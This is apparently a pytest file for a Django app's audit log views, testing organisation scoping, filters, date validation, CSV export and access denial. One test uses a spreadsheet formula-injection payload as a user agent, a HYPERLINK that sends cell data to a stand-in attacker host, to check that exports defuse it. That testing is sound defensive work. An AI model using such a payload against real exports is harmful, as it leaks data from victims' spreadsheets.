"""The audit log pages: a service admin reads and exports their own organisation's log."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest
from django.db.models import Max
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from hearth.accounts.personas import Cast
from hearth.governance.audit import audit_record, audit_verify
from hearth.governance.models import AuditEvent
from hearth.governance.views import CSV_COLUMNS

AsPersona = Callable[[str | None], Client]
NORTHGATE_MARKER = "NG-SECRET-7"


@dataclass
class Log:
    tom_read: AuditEvent
    theo_update: AuditEvent
    alice_login: AuditEvent  # a security event: no organisation, a riverside member
    northgate_read: AuditEvent
    olive_login: AuditEvent  # a security event of a northgate-only member
    anonymous: AuditEvent

    @property
    def riverside(self) -> set[int]:
        return {self.tom_read.seq, self.theo_update.seq, self.alice_login.seq}

    @property
    def northgate(self) -> set[int]:
        return {self.northgate_read.seq, self.olive_login.seq, self.anonymous.seq}


@pytest.fixture
def log(cast: Cast) -> Log:
    riverside = cast.organisations["riverside"].pk
    northgate = cast.organisations["northgate"].pk
    u = cast.users
    return Log(
        tom_read=audit_record(
            actor=u["tom"],
            action="client_record.read",
            organisation_id=riverside,
            object_type="client_record",
            object_id=cast.records["alice"].pk,
        ),
        theo_update=audit_record(
            actor=u["theo"],
            action="client_record.update",
            organisation_id=riverside,
            object_type="client_record",
            object_id=cast.records["charlie"].pk,
            changes={"phone": ["", "07700 900123"]},
        ),
        alice_login=audit_record(actor=u["alice"], action="auth.login"),
        northgate_read=audit_record(
            actor=u["olive"],
            action="client_record.read",
            organisation_id=northgate,
            object_type="client_record",
            object_id=NORTHGATE_MARKER,
        ),
        olive_login=audit_record(actor=u["olive"], action="auth.login"),
        anonymous=audit_record(actor=None, action="auth.login_failed"),
    )


def listed(client: Client, **query: str) -> list[int]:
    response = client.get(reverse("audit_log"), query)
    assert response.status_code == 200
    page = response.context["page"]
    return [e.seq for e in page] if page else []


def exported(client: Client, **query: str) -> list[dict[str, str]]:
    response = client.get(reverse("audit_export"), query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def test_admin_sees_her_organisations_events_only(log: Log, as_persona: AsPersona) -> None:
    response = as_persona("ada").get(reverse("audit_log"))
    assert response.status_code == 200
    seqs = {e.seq for e in response.context["page"]}
    assert log.riverside <= seqs
    assert not seqs & log.northgate
    html = response.content.decode()
    assert "tom@demo.hearth.test" in html and "client_record.update" in html
    assert "olive@demo.hearth.test" not in html and NORTHGATE_MARKER not in html
    newest_first = [e.seq for e in response.context["page"]]
    assert newest_first == sorted(newest_first, reverse=True)


def test_filters_by_action_and_actor(log: Log, as_persona: AsPersona) -> None:
    ada = as_persona("ada")
    assert listed(ada, action="client_record.update") == [log.theo_update.seq]
    assert listed(ada, action="client_record") == [log.theo_update.seq, log.tom_read.seq]
    # Signing in is audited too, so Ada's own sign-in is among the security events.
    logins = listed(ada, action="auth.login")
    assert log.alice_login.seq in logins and log.olive_login.seq not in logins
    assert {AuditEvent.objects.get(seq=s).actor_email for s in logins} == {
        "alice@demo.hearth.test",
        "ada@demo.hearth.test",
    }
    assert listed(ada, actor="tom@demo") == [log.tom_read.seq]
    assert listed(ada, actor="THEO") == [log.theo_update.seq]
    assert listed(ada, object_type="client_record", object_id=str(log.tom_read.object_id)) == [
        log.tom_read.seq
    ]
    # Filters that would match northgate's events still find nothing of theirs.
    assert listed(ada, actor="olive") == []
    assert listed(ada, object_id=NORTHGATE_MARKER) == []


def test_filters_by_date(cast: Cast, as_persona: AsPersona, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    riverside = cast.organisations["riverside"].pk
    written = {}
    for day in (1, 5, 9):
        moment = datetime(2026, 3, day, 12, 30, tzinfo=UTC)
        monkeypatch.setattr(timezone, "now", lambda moment=moment: moment)  # Django's clock
        written[day] = audit_record(
            actor=cast.users["tom"], action="client_record.read", organisation_id=riverside
        ).seq
    monkeypatch.undo()
    ada = as_persona("ada")
    assert listed(ada, since="2026-03-04", until="2026-03-06") == [written[5]]
    assert listed(ada, since="2026-03-05", until="2026-03-05") == [written[5]]
    assert listed(ada, until="2026-03-05") == [written[5], written[1]]
    assert listed(ada, since="2026-03-06", action="client_record") == [written[9]]
    today = timezone.now().date()
    assert listed(ada, since=str(today + timedelta(days=1))) == []
    assert audit_verify().ok


def test_invalid_date_range_gives_a_specific_error(log: Log, as_persona: AsPersona) -> None:
    response = as_persona("ada").get(
        reverse("audit_log"), {"since": "2026-03-10", "until": "2026-03-01"}
    )
    assert response.status_code == 200
    assert "The end date is before the start date." in response.content.decode()
    assert not response.context["page"]  # no events shown for a filter that makes no sense

    response = as_persona("ada").get(reverse("audit_log"), {"since": "10/03/2026x"})
    assert "Enter a valid date." in response.content.decode()


def test_export_is_the_filtered_log_and_is_itself_audited(
    log: Log, cast: Cast, as_persona: AsPersona
) -> None:
    rows = exported(as_persona("ada"), action="client_record")
    assert [int(r["seq"]) for r in rows] == [log.theo_update.seq, log.tom_read.seq]
    theo = rows[0]
    assert theo["actor_email"] == "theo@demo.hearth.test"
    assert theo["action"] == "client_record.update"
    assert theo["object_id"] == str(cast.records["charlie"].pk)
    assert theo["changes"] == '{"phone": ["", "07700 900123"]}'
    assert theo["hash"] == log.theo_update.hash
    assert datetime.fromisoformat(theo["created_at"]) == log.theo_update.created_at

    export = AuditEvent.objects.get(action="audit.export")
    assert export.actor_id == cast.users["ada"].pk
    assert export.organisation_id == cast.organisations["riverside"].pk
    assert export.changes == {"filters": {"action": "client_record"}}
    assert audit_verify().ok


def test_unfiltered_export_holds_no_other_organisations_events(
    log: Log, as_persona: AsPersona
) -> None:
    seqs = {int(r["seq"]) for r in exported(as_persona("ada"))}
    assert log.riverside <= seqs
    assert not seqs & log.northgate


def test_export_with_a_bad_filter_is_refused_and_not_audited(
    log: Log, as_persona: AsPersona
) -> None:
    response = as_persona("ada").get(
        reverse("audit_export"), {"since": "2026-03-10", "until": "2026-03-01"}
    )
    assert response.status_code == 400
    assert "The end date is before the start date." in response.content.decode()
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_export_defuses_spreadsheet_formulas(cast: Cast, as_persona: AsPersona) -> None:
    """A client chooses their user agent; Ada's spreadsheet must not run it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    response = as_persona("alice").get(reverse("audit_log"), HTTP_USER_AGENT=formula)
    assert response.status_code == 403  # denied, and the denial is audited with her agent
    rows = exported(as_persona("ada"), action="access.denied")
    assert [r["actor_email"] for r in rows] == ["alice@demo.hearth.test"]
    assert rows[0]["user_agent"] == "'" + formula
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_client_address_from_the_request_is_recorded_and_verifies(
    cast: Cast, as_persona: AsPersona
) -> None:
    response = as_persona("tom").get(
        reverse("audit_log"), REMOTE_ADDR="2001:DB8::5", HTTP_USER_AGENT="Tom's browser"
    )
    assert response.status_code == 403
    denial = AuditEvent.objects.get(action="access.denied")
    assert (denial.ip, denial.user_agent) == ("2001:db8::5", "Tom's browser")
    assert audit_verify().ok


@pytest.mark.parametrize("persona", ["tom", "theo", "sam", "alice", "charlie", "cora", "olive"])
@pytest.mark.parametrize("page", ["audit_log", "audit_export"])
def test_only_service_admins_may_open_the_log(
    log: Log, cast: Cast, as_persona: AsPersona, persona: str, page: str
) -> None:
    client = as_persona(persona)  # signing in is audited: count from after it
    last = AuditEvent.objects.aggregate(last=Max("seq"))["last"]
    response = client.get(reverse(page))
    assert response.status_code == 403
    assert b"tom@demo.hearth.test" not in response.content
    denial = AuditEvent.objects.get(seq=last + 1)
    assert (denial.action, denial.actor_id, denial.object_id) == (
        "access.denied",
        cast.users[persona].pk,
        page,
    )
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_signed_out_visitors_are_sent_to_sign_in(log: Log, as_persona: AsPersona) -> None:
    for page in ("audit_log", "audit_export"):
        response = as_persona(None).get(reverse(page))
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_long_logs_are_paged(cast: Cast, as_persona: AsPersona) -> None:
    riverside = cast.organisations["riverside"].pk
    seqs = [
        audit_record(actor=cast.users["tom"], action="test.bulk", organisation_id=riverside).seq
        for _ in range(60)
    ]
    ada = as_persona("ada")
    first = ada.get(reverse("audit_log"), {"action": "test.bulk"})
    assert [e.seq for e in first.context["page"]] == seqs[::-1][:50]
    second = ada.get(reverse("audit_log"), {"action": "test.bulk", "page": "2"})
    assert [e.seq for e in second.context["page"]] == seqs[::-1][50:]
    assert "action=test.bulk" in first.content.decode()  # the next-page link keeps the filter
